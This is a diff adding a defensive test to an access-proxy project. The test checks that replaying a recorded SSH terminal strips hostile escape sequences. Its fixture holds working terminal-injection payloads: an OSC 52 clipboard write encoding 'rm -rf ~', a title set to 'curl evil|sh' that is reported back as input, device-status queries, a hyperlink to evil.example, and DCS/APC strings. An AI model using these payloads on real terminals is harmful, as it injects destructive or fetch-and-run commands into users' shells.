@@ -290,3 +290,85 @@ async def test_the_webhook_text_cannot_carry_chat_markup_from_the_requester(tmp_
         assert markup not in text, text
     assert "&lt;!channel&gt; urgent &amp; see &lt;https://evil.example/|the runbook&gt;" in text
     assert received[0]["approval"]["justification"].startswith("<!channel>")
+
+
+def _replay_on_a_terminal(config_path, session_id: str) -> bytes:
+    """`portcullis replay SESSION` with its output on a pseudo-terminal, as an auditor
+    runs it: what the auditor's terminal is sent."""
+    import os
+    import pty
+    import subprocess
+    import sys
+
+    from pdp_harness import REPO
+
+    master, slave = pty.openpty()
+    env = {**os.environ, "PYTHONPATH": f"{REPO}{os.pathsep}{REPO / 'proto'}", "TERM": "xterm"}
+    process = subprocess.Popen(
+        [sys.executable, "-m", "pdp.cli", "-c", str(config_path), "replay", session_id,
+         "--speed", "1000"],
+        stdout=slave, stderr=subprocess.PIPE, stdin=subprocess.DEVNULL, env=env,
+    )  # fmt: skip
+    os.close(slave)
+    out = bytearray()
+    while True:
+        try:
+            chunk = os.read(master, 65536)
+        except OSError:  # EIO: the replay ended and closed the terminal
+            break
+        if not chunk:
+            break
+        out += chunk
+    os.close(master)
+    assert process.wait(timeout=60) == 0, process.stderr.read() if process.stderr else ""
+    return bytes(out)
+
+
+async def test_replaying_a_recorded_terminal_sends_the_auditor_s_terminal_display_only(tmp_path):
+    """Attack (an SSH user, or the server they reach, writing to their own recorded
+    terminal): `portcullis replay` plays a recorded shell on the auditor's terminal and
+    wrote its output as recorded, control sequences and all. Among them those that act
+    beyond the screen: OSC 52 sets the auditor's clipboard (a command to paste), OSC 8
+    makes links, a title set then reported back (CSI 21 t) or a status report (CSI 6 n,
+    device attributes CSI c) is typed by the terminal into the auditor's shell after the
+    replay, DCS/APC strings reach the terminal's own handlers. Now the playback passes
+    the display (text, SGR colours, cursor movement, erasing, scrolling, modes) and drops
+    every string sequence and every sequence that makes the terminal answer."""
+    from google.protobuf import struct_pb2
+    from test_evidence import make_env
+
+    env = make_env(tmp_path, {"type": "sqlite", "path": str(tmp_path / "var" / "audit.db")})
+    config = env.config
+    hostile = (
+        "\x1b[31mred\x1b[0m ok\r\n"
+        "\x1b]52;c;cm0gLXJmIH4K\x07"  # clipboard: 'rm -rf ~'
+        "\x1b]0;curl evil|sh\x07\x1b[21t"  # title, then report it back as input
+        "\x1b[6n\x1b[c\x1b[>c\x1bZ"  # status and identity reports
+        "\x1b]8;;https://evil.example/\x1b\\link\x1b]8;;\x1b\\"  # hyperlink
+        '\x1bP$q"p\x1b\\\x1b_apc\x1b\\\x9d52;c;eA==\x07'  # DCS, APC, C1 OSC
+        "\x1b[2J\x1b[Hdone"
+    )
+    details = struct_pb2.Struct()
+    details.update(
+        {"kind": "ssh.asciicast", "channel": 0, "events": [[0.1, "o", hostile[:40]],
+                                                           [0.2, "o", hostile[40:]]]}
+    )  # fmt: skip
+    async with running_pdp(config) as pdp, pdp_stub(pdp.address) as stub:
+        opened = await open_session(stub, token(config))
+        await stub.RecordEvents(
+            pdp_pb2.RecordEventsRequest(
+                session_id=opened.session_id,
+                events=[
+                    pdp_pb2.SessionEvent(
+                        time=1.0, direction="upstream", type="response", details=details
+                    )
+                ],
+            )
+        )
+        session_id = opened.session_id
+    shown = await asyncio.to_thread(_replay_on_a_terminal, env.config_path, session_id)
+    played = shown.split(b"--- terminal, channel 0", 1)[1]
+    assert b"\x1b[31mred\x1b[0m ok" in played and b"\x1b[2J\x1b[Hdone" in played
+    for acting in (b"\x1b]", b"\xc2\x9d", b"\x1b[21t", b"\x1b[6n", b"\x1b[c", b"\x1b[>c",
+                   b"\x1bZ", b"\x1bP", b"\x1b_", b"cm0gLXJmIH4K", b"curl evil"):  # fmt: skip
+        assert acting not in played, (acting, played)
